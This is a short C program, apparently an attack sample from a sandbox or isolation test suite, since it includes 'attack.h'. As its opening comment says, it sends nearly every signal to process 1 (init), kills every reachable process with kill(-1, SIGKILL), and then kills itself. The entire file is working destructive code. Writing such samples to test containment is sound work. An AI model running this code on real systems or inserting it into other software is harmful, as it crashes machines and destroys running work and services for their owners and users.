// Kills all that it can reach, process 1 too.
#include "attack.h"
#include <signal.h>
int main(void) {
  for (int number = 1; number < NSIG; ++number) {
    if (number != SIGCONT && number != SIGCHLD) kill(1, number);
  }
  kill(-1, SIGKILL);
  kill(getpid(), SIGKILL);
}
